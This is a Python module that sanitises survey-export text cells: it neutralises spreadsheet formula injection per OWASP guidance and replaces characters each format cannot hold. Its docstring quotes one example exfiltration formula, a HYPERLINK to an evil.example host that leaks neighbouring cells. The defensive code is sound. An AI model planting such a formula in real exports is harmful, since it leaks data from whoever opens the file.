"""What a text cell of a file a spreadsheet opens may hold, per format (exports, reports).

Text in an export was typed by someone outside the analysts' trust: customers (text answers),
interviewers (their id and the hall of an intercept interview) and whoever prepared an
imported sample frame (customer id, region, hall). Two things are done to it on the way out,
and counted so that the codebook can say so:

- **Formulas.** A spreadsheet opening a CSV or XLSX runs a cell that starts with ``=``, ``+``,
  ``-`` or ``@`` as a formula (``=HYPERLINK("http://evil.example/?leak="&B2, ...)`` sends the
  neighbouring cells away on a click). :func:`spreadsheet_text` prefixes such a cell with
  ``'``, as OWASP's CSV-injection guidance says. Only the two formats a spreadsheet opens get
  it: in SPSS and Parquet the quote would only change the data analysts compute with.
- **Characters a format cannot hold** are replaced with U+FFFD (:data:`REFUSED`): openpyxl
  refuses C0 controls in a sheet (one NUL in one answer failed every XLSX export of the
  version), SPSS strings end at a NUL (the rest of the answer was silently lost).

Numbers, times and missing values are never touched: only ``str`` cells are.
"""

from __future__ import annotations

import re
import unicodedata
from dataclasses import dataclass

import pandas as pd

REPLACEMENT = "\ufffd"
#: Formats a spreadsheet opens: their text cells are neutralised as formulas.
SPREADSHEETS = frozenset({"csv", "xlsx"})
#: A first character that starts a formula, after NFKC folding: East Asian Excel takes the
#: full-width ＝＋－＠ an IME types as = + - @ (reported to OWASP for Japanese Excel,
#: OWASP/www-community#1088; WPS is not documented either way), and NFKC also folds the small
#: forms ﹦﹢﹣﹫. Folding costs a visible ' on a rare answer; missing one is a formula on an
#: analyst's machine.
FORMULA_STARTS = frozenset("=+-@")
#: The rest of OWASP's list: spreadsheets skip a leading tab or CR and read what follows.
CONTROL_STARTS = frozenset("\t\r")

# Lone surrogates have no UTF-8 form, so no file holds one; the databases cannot store one
# either, so they are here for text that reached an export some other way.
_SURROGATES = "\ud800-\udfff"
#: XML 1.0, the text of an XLSX sheet, has no C0 control but tab, LF and CR, and no U+FFFE or
#: U+FFFF: openpyxl refuses the controls (its ILLEGAL_CHARACTERS_RE) and writes the two
#: non-characters into a file that neither it nor Excel reads back.
_XML_REFUSED = re.compile(f"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff{_SURROGATES}]")
#: Per format, the characters replaced with :data:`REPLACEMENT`. CSV takes XLSX's: the same
#: spreadsheets open it, and the two files of one export then read alike. SPSS holds every
#: control but NUL (a C string's end: what follows is lost); Parquet holds any Unicode text.
REFUSED: dict[str, re.Pattern[str]] = {
    "csv": _XML_REFUSED,
    "xlsx": _XML_REFUSED,
    "sav": re.compile(f"[\x00{_SURROGATES}]"),
    "parquet": re.compile(f"[{_SURROGATES}]"),
}
#: What each format is called in the codebook's notes (zh, en).
_WHO = {
    "csv": ("电子表格", "a spreadsheet"),
    "xlsx": ("XLSX", "XLSX"),
    "sav": ("SPSS", "SPSS"),
    "parquet": ("Parquet", "Parquet"),
}


def starts_formula(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as a formula.

    Leading whitespace is looked through (``" =1+1"``): LibreOffice's and WPS's "trim spaces"
    on import would leave a formula.
    """
    if text[:1] in CONTROL_STARTS:
        return True
    first = text.lstrip()[:1]
    return bool(first) and unicodedata.normalize("NFKC", first)[:1] in FORMULA_STARTS


def spreadsheet_text(text: str) -> str:
    """``text`` as a spreadsheet shows it as text: with a leading ``'`` where it would start a
    formula (OWASP's CSV-injection advice). Idempotent: ``'`` starts no formula.

    The one rule for every file a spreadsheet opens (the response exports' CSV and XLSX, and
    any other CSV the service writes).
    """
    return "'" + text if starts_formula(text) else text


@dataclass(frozen=True)
class CleanedData:
    """Data as a format can hold it, and per column what was changed."""

    data: pd.DataFrame
    #: Column -> cells given a leading ``'`` (spreadsheet formats only).
    prefixed: dict[str, int]
    #: Column -> characters replaced with U+FFFD.
    replaced: dict[str, int]


def csv_cell(text: str) -> str:
    """One text cell of a CSV a person opens in a spreadsheet (a report, a list): the
    characters CSV cannot hold replaced, and a formula neutralised."""
    return spreadsheet_text(REFUSED["csv"].sub(REPLACEMENT, text))


def clean_text(data: pd.DataFrame, fmt: str) -> CleanedData:
    """``data`` with every text cell as ``fmt`` can hold it and a spreadsheet shows it as text."""
    refused = REFUSED[fmt]
    formulas = fmt in SPREADSHEETS
    data = data.copy()
    prefixed: dict[str, int] = {}
    replaced: dict[str, int] = {}
    for column in data.columns:
        series = data[column]
        if not pd.api.types.is_string_dtype(series.dtype):
            continue  # numbers, times: a negative code is a number, not a formula
        counts = {"prefixed": 0, "replaced": 0}

        def clean(value, counts=counts):
            if not isinstance(value, str):
                return value
            value, n = refused.subn(REPLACEMENT, value)
            counts["replaced"] += n
            shown = spreadsheet_text(value) if formulas else value
            counts["prefixed"] += len(shown) - len(value)
            return shown

        cleaned = series.map(clean, na_action="ignore")
        if counts["prefixed"] or counts["replaced"]:
            data[column] = cleaned.astype(series.dtype)
            prefixed[column] = counts["prefixed"]
            replaced[column] = counts["replaced"]
    return CleanedData(data, prefixed, replaced)


def spreadsheet_codebook(codebook: pd.DataFrame, fmt: str) -> pd.DataFrame:
    """The codebook's own text cells (labels written by questionnaire authors) as a
    spreadsheet shows them as text; not counted, since the codebook documents the data."""
    return clean_text(codebook, fmt).data


def record_cleaning(codebook: pd.DataFrame, cleaned: CleanedData, fmt: str) -> pd.DataFrame:
    """``codebook`` with each column's counts (``cells_prefixed``, ``characters_replaced``)
    and a sentence saying what was done (``cleaning_zh``, ``cleaning_en``)."""
    book = codebook.copy()
    variables = book["variable"]
    book["cells_prefixed"] = variables.map(cleaned.prefixed).fillna(0).astype("int64")
    book["characters_replaced"] = variables.map(cleaned.replaced).fillna(0).astype("int64")
    notes = [
        cleaning_notes(int(p), int(r), fmt)
        for p, r in zip(book["cells_prefixed"], book["characters_replaced"], strict=True)
    ]
    book["cleaning_zh"] = [zh for zh, _ in notes]
    book["cleaning_en"] = [en for _, en in notes]
    return book


def cleaning_notes(prefixed: int, replaced: int, fmt: str) -> tuple[str, str]:
    """What was done to one column, in Chinese and in English ("" for nothing)."""
    zh: list[str] = []
    en: list[str] = []
    if prefixed:
        zh.append(
            f"{prefixed} 个单元格以公式字符（= + - @、全角＝＋－＠、制表符或回车）开头，"
            "已在前面加 '，电子表格将其显示为文本。"
        )
        cells = "cell" if prefixed == 1 else "cells"
        en.append(
            f"{prefixed} {cells} starting like a formula (= + - @, full-width ＝＋－＠, tab or "
            "CR) written with a leading ' so that spreadsheets show them as text."
        )
    if replaced:
        who_zh, who_en = _WHO[fmt]
        zh.append(f"{replaced} 个{who_zh}无法保存的字符（如控制字符）已替换为 U+FFFD（\ufffd）。")
        characters = "character" if replaced == 1 else "characters"
        en.append(
            f"{replaced} {characters} that {who_en} cannot hold (such as control characters) "
            "replaced with U+FFFD (\ufffd)."
        )
    return "".join(zh), " ".join(en)
